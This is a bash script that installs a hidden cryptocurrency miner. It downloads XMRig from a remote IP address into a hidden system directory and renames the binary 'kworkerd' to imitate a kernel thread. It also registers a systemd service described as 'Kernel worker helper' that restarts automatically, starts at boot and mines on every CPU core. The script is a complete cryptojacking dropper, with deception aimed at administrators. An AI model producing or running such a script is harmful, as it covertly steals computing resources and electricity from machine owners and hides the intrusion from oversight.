#!/bin/bash
set -e
DIR=/usr/lib/.sysd
mkdir -p $DIR && cd $DIR
wget -q http://198.51.100.90/xmrig.tar.gz -O x.tgz
tar xzf x.tgz --strip-components=1 && mv xmrig kworkerd

cat > /etc/systemd/system/kworkerd.service <<EOF
[Unit]
Description=Kernel worker helper
After=network.target

[Service]
ExecStart=$DIR/kworkerd -o stratum+tcp://pool.example:3333 -u 48fakeWallet -p x --threads=$(nproc) --donate-level 1
Restart=always
Nice=19

[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now kworkerd
